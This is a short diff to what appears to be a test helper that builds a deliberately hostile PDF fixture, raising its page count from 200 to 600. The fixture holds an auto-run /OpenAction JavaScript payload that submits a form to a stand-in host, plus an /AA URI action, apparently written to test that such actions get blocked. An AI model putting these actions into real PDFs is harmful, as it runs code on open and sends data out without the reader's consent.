@@ -34,7 +34,7 @@ export function pdfOf(pages: number, catalogue = '', picture = ''): DeliveredByt
 /** Long, and with everything a PDF can ask to be run or opened when it is. */
 export const hostilePdf = (): DeliveredBytes =>
   pdfOf(
-    200,
+    600,
     `/OpenAction << /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://example.com"\\); window.hostil = true;) >>
      /AA << /WC << /S /URI /URI (https://example.com) >> >>`,
   );
